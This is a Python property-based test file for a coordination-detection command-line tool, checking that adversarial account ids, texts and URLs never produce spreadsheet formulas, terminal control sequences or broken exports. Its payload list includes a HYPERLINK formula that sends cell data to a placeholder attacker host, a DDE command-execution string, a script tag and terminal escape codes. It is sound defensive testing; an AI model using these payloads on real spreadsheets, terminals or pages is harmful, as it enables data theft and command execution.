"""A property test of the whole path a user takes, on values an adversary chooses.

A coordinated group whose account ids, texts, handles, bylines and URLs are drawn from control characters,
spreadsheet formula starts, markup and odd Unicode goes through import → coordination → findings → report →
every export, all through the command line. Whatever the values: exit 0, no traceback, every output parses,
no CSV cell a spreadsheet would run, and no control character reaches the terminal.
"""

from __future__ import annotations

import csv
import json
import random
import re
import xml.etree.ElementTree as ET
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import networkx as nx
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from unmask.cli import app

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PIECES = (
    "\x1b[2J",
    "\x1b]8;;http://evil.example/\x1b\\",
    "\x9b31m",
    "\x07",
    "\x7f",
    "\x85",
    "\u202e",
    "\u2066",
    "\u200f",
    "\ufffe",
    "\U0001f600",
    "e\u0301",
    "<script>window.__pwned=1</script>",
    "</node>",
    "]]>",
    '"',
    "'",
    "&amp;",
    "{{7*7}}",
    "[bold]x[/]",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd",
    "\t",
    "\r",
    ",",
    "\n",
)
# What must never reach a terminal: C0 controls but newline, DEL, C1 controls, and bidi overrides.
TERMINAL_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")

hostile = st.lists(st.sampled_from(PIECES), min_size=1, max_size=4).map("".join)


def _posts(folder: Path, ids: list[str], texts: list[str], urls: list[str], handles: list[str]) -> Path:
    """A crowd sharing popular posts at random, and the group sharing the same posts seconds apart."""
    rng = random.Random(7)
    t0 = datetime(2024, 5, 1, tzinfo=UTC)
    rows = []
    n = 0
    for day in range(4):
        for k in range(30):
            obj = f"crowd-{day}-{k}"
            for a in rng.sample(range(80), 6):
                when = t0 + timedelta(days=day, seconds=rng.randrange(86400))
                rows.append([f"c{n}", f"organic{a}", when.isoformat(), "RT", obj, "", "", f"user{a}"])
                n += 1
        for k in range(6):
            start = t0 + timedelta(days=day, hours=9 + k)
            for i, account in enumerate(ids):
                when = start + timedelta(seconds=3 * i + rng.randrange(3))
                rows.append(
                    [f"g{n}", account, when.isoformat(), texts[i], f"op-{day}-{k}", urls[i], "", handles[i]]
                )
                n += 1
    path = folder / "posts.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(
            ["post_id", "account_id", "created_at", "text", "shared_post_id", "urls", "hashtags", "handle"]
        )
        writer.writerows(rows)
    return path


def _articles(folder: Path, byline: str, title: str) -> Path:
    path = folder / "articles.jsonl"
    path.write_text(
        "".join(
            json.dumps(
                {
                    "id": f"d{i}",
                    "byline": byline,
                    "title": title,
                    "url": f"https://news.example/{i}",
                    "text": "the council said that the plan would go ahead " * 20 + title,
                    "published_at": f"2024-05-0{1 + i % 4}T1{i % 10}:00:00Z",
                }
            )
            + "\n"
            for i in range(6)
        ),
        encoding="utf-8",
    )
    return path


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _check_csv(path: Path) -> None:
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.reader(fh):
            for cell in row:
                assert not (cell.startswith(FORMULA_STARTS) and not _is_number(cell)), (path.name, cell)


def _check_terminal(result) -> None:
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    bad = TERMINAL_CONTROL.findall(result.output)
    assert not bad, f"control characters on the terminal: {bad!r}"


class _Html(HTMLParser):
    def error(self, message: str) -> None:  # pragma: no cover - HTMLParser does not call it any more
        raise AssertionError(message)


@pytest.mark.filterwarnings("ignore")
@settings(
    max_examples=4,
    deadline=None,
    derandomize=True,
    # A failing example is reported as drawn: shrinking a whole pipeline run takes minutes.
    phases=(Phase.explicit, Phase.generate),
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    ids=st.lists(hostile, min_size=5, max_size=5),
    texts=st.lists(hostile, min_size=5, max_size=5),
    urls=st.lists(hostile, min_size=5, max_size=5),
    handles=st.lists(hostile, min_size=5, max_size=5),
    byline=hostile,
)
def test_hostile_values_through_every_command(
    tmp_path_factory: pytest.TempPathFactory,
    ids: list[str],
    texts: list[str],
    urls: list[str],
    handles: list[str],
    byline: str,
) -> None:
    folder = tmp_path_factory.mktemp("hostile")
    # Distinct ids that still start with the drawn value, so that formula starts stay at the front.
    ids = [f"{value}{i}" for i, value in enumerate(ids)]
    urls = [f"https://evil.example/{value}" if i % 2 else value for i, value in enumerate(urls)]
    posts = _posts(folder, ids, texts, urls, handles)
    articles = _articles(folder, byline, texts[0])
    case = str(folder / "case.duckdb")
    runner = CliRunner()

    def ok(*args: str):
        result = runner.invoke(app, [*args], env={"COLUMNS": "80"})
        _check_terminal(result)
        assert result.exit_code == 0, (args, result.output)
        return result

    ok("import", "posts-csv", str(posts), "--case", case)
    ok("import", "articles", str(articles), "--case", case)
    ok("info", "--case", case, "--top", "20")
    ok("quarantine", "--case", case)
    out = folder / "coordination"
    ok("coordination", "--case", case, "--out", str(out), "--window", "60")
    ok("findings", "--case", case)
    found = json.loads(ok("findings", "--case", case, "--json").output)
    assert any(f["kind"] == "coordinated-network" for f in found)

    for name in ("accounts.csv", "edges.csv"):
        _check_csv(out / name)
    json.loads((out / "networks.json").read_text(encoding="utf-8"))
    graph = nx.read_graphml(out / "network.graphml")
    assert graph.number_of_nodes() >= len(ids)
    ET.parse(out / "network.gexf")

    ok("report", "--case", case, "--out", str(folder / "report.html"))
    _Html().feed((folder / "report.html").read_text(encoding="utf-8"))
    ok("report", "--case", case, "--out", str(folder / "report.json"), "--format", "json")
    json.loads((folder / "report.json").read_text(encoding="utf-8"))
    ok("report", "--case", case, "--out", str(folder / "report.md"), "--format", "md")
    ok("export", "ftm", "--case", case, "--out", str(folder / "x.ftm.jsonl"))
    for line in (folder / "x.ftm.jsonl").read_text(encoding="utf-8").splitlines():
        json.loads(line)
    ok("export", "gexf", "--case", case, "--out", str(folder / "x.gexf"))
    ET.parse(folder / "x.gexf")
    ok("export", "graphml", "--case", case, "--out", str(folder / "x.graphml"))
    nx.read_graphml(folder / "x.graphml")
